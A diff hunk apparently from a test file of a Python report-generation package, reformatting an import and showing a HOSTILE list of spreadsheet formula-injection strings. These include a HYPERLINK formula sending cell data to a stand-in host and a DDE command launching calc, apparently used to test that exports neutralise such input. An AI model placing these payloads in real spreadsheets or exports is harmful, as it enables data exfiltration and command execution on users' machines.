@@ -18,8 +18,16 @@ from csat.i18n import in_language
 from csat.reports.review import docx as docx_writer
 from csat.reports.review import pictures
 from csat.reports.review import xlsx as xlsx_writer
-from csat.reports.review.model import (BuiltFrom, Chart, Paragraph, ReviewDocument, Section, Series, Table,
-                                       content_hash)
+from csat.reports.review.model import (
+    BuiltFrom,
+    Chart,
+    Paragraph,
+    ReviewDocument,
+    Section,
+    Series,
+    Table,
+    content_hash,
+)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
 
